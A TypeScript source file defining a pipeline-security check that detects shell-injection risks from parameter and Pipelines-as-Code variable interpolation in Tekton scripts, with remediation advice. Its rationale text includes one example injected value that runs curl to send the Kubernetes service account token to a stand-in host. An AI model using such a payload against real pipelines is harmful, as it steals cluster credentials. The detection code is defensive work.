import type { PipelineCheck } from '../types';
import type { Evidence, PipelineModel } from '../../model/types';
import { capEvidence, fail, notApplicable, pass, plural, unknown } from '../util';
import { attackerPacBehindParam } from './pac-variables';
import { codeSites, findInjections, findPacInjections, injectionEvidence, substitutionText, type Injection } from './substitutions';

/** Params interpolated in scripts that carry an attacker-controlled PaC variable, as sentences and evidence. */
function pacCarriers(pipeline: PipelineModel, found: Injection[]): { notes: string[]; evidence: Evidence[] } {
  const notes: string[] = [];
  const evidence: Evidence[] = [];
  const seen = new Set<string>();
  for (const { site, occ } of found) {
    if (occ.sub.kind !== 'param' || site.stepAction) continue;
    const key = `${site.task.name}\u0000${occ.sub.name}`;
    if (seen.has(key)) continue;
    seen.add(key);
    const carrier = attackerPacBehindParam(pipeline, site.task, occ.sub.name);
    if (carrier.variables.length === 0) continue;
    notes.push(`$(params.${occ.sub.name}) in task "${site.task.name}" carries ${carrier.variables.map((v) => `{{ ${v} }}`).join(', ')}`);
    evidence.push(...carrier.evidence);
  }
  return { notes, evidence };
}

export const INJ_001: PipelineCheck = {
  id: 'INJ-001',
  title: 'No parameter interpolation in scripts',
  category: 'injection',
  severity: 'high',
  scope: 'pipeline',
  rationale:
    'Tekton pastes `$(params.…)` and `$(tasks.….results.…)` into a script as text before the shell parses it, so a value such as ' +
    '`main; curl evil.example -d @/var/run/secrets/kubernetes.io/serviceaccount/token` becomes code that runs with the step\'s credentials. ' +
    'Whoever can set a parameter (a webhook payload, a PipelineRun author, an earlier task\'s output) can then run commands in the pipeline. ' +
    'Pipelines-as-Code pastes its `{{ … }}` variables into the PipelineRun the same way, and some of them (the source branch, a PR title, a comment) are chosen by whoever opens the pull request.',
  remediation: [
    'Pass the value through an environment variable and quote it; the shell then treats it as data:',
    '```yaml',
    'steps:',
    '- name: build',
    '  image: alpine@sha256:…',
    '  env:',
    '  - name: REVISION',
    '    value: $(params.revision)',
    '  script: |',
    '    #!/bin/sh',
    '    set -eu',
    '    git checkout "$REVISION"',
    '```',
    'The same applies to `command: [sh, -c, …]`: move the substitution into `env` and reference `"$VAR"`, and to Pipelines-as-Code variables:',
    '```yaml',
    'env:',
    '- name: SOURCE_BRANCH',
    '  value: "{{ source_branch }}"   # data, not code',
    '```',
  ].join('\n'),
  source: 'tekton-isolation-workspaces-rbac (adversary 4, step 5)',
  needs: ['Task'],
  evaluate({ pipeline, cluster }) {
    if (!pipeline.spec) return unknown('The pipeline spec is not in sight: its scripts cannot be read.');
    const { sites, unresolved, containers } = codeSites(pipeline, cluster);
    const found = [...findInjections(sites), ...findPacInjections(sites)];
    const note = unresolved.length ? ` Not evaluated: ${unresolved.slice(0, 5).join('; ')}${unresolved.length > 5 ? '…' : ''}.` : '';
    if (found.length > 0) {
      const evidence = injectionEvidence(found);
      const steps = new Set(found.map((f) => f.site.label));
      const exprs = [...new Set(found.map((f) => substitutionText(f.occ.sub)))];
      const pacDirect = found.some((f) => f.occ.sub.kind === 'pac-variable');
      const carriers = pacCarriers(pipeline, found);
      const pacNote = [
        ...(pacDirect ? ['The Pipelines-as-Code variables there hold text an outside contributor chooses (a branch name, a title, a comment)'] : []),
        ...(carriers.notes.length ? [`${carriers.notes.slice(0, 3).join('; ')} (attacker-controlled Pipelines-as-Code ${carriers.notes.length === 1 ? 'variable' : 'variables'})`] : []),
      ];
      return fail(
        `${plural(evidence.length, 'substitution')} of user-influenced values ${evidence.length === 1 ? 'stands' : 'stand'} inside shell code in ${plural(steps.size, 'step')} ` +
          `(${exprs.slice(0, 4).join(', ')}${exprs.length > 4 ? '…' : ''}): pass them through env and quote them.${pacNote.length ? ` ${pacNote.join('. ')}.` : ''}${note}`,
        capEvidence([...evidence, ...carriers.evidence]),
      );
    }
    if (unresolved.length > 0) return unknown(`No interpolation in the scripts in sight.${note}`);
    if (containers === 0) return notApplicable('The pipeline has no steps.');
    return pass(sites.length === 0 ? 'The steps run no script or shell code.' : `No script or shell command (${sites.length} looked at) interpolates a parameter, a result or an attacker-controlled Pipelines-as-Code variable.`);
  },
};
